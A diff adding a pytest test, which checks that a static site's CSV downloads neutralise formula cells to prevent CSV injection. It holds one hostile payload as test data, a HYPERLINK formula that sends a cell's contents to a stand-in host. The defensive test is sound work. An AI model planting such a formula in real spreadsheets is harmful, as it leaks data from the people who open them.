@@ -211,3 +211,19 @@ def test_follow_up_site_builds_strict_with_downloads(tmp_path: Path) -> None:
     for page in site.rglob("*.html"):
         if page.name == "index.html":
             assert 'type="application/atom+xml"' in page.read_text(encoding="utf-8"), page
+
+
+def test_csv_cells_never_run_as_formulas(mini: Path) -> None:
+    """OWASP "CSV injection": a cell starting with = + - @ tab or CR gets a leading apostrophe."""
+    piar = mini / "documents" / "mrc-de-test-piar.yml"
+    text = piar.read_text(encoding="utf-8")
+    formula = '=HYPERLINK("https://exemple.com/?"&A1,"Cliquez")'
+    assert "Deuxième enjeu" in text
+    piar.write_text(text.replace("titre: Deuxième enjeu", "titre: '" + formula + "'"), encoding="utf-8")
+    site = load_site(mini)
+    downloads = render_downloads(site, "https://exemple.github.io/plans-publics/")
+    for path in ("documents/mrc-de-test-piar/mrc-de-test-piar.csv", "donnees/actions.csv"):
+        rows = list(csv.reader(io.StringIO(downloads[path].lstrip("\ufeff")), delimiter=";"))
+        cells = [cell for row in rows for cell in row]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), path
+        assert "'" + formula in cells, path
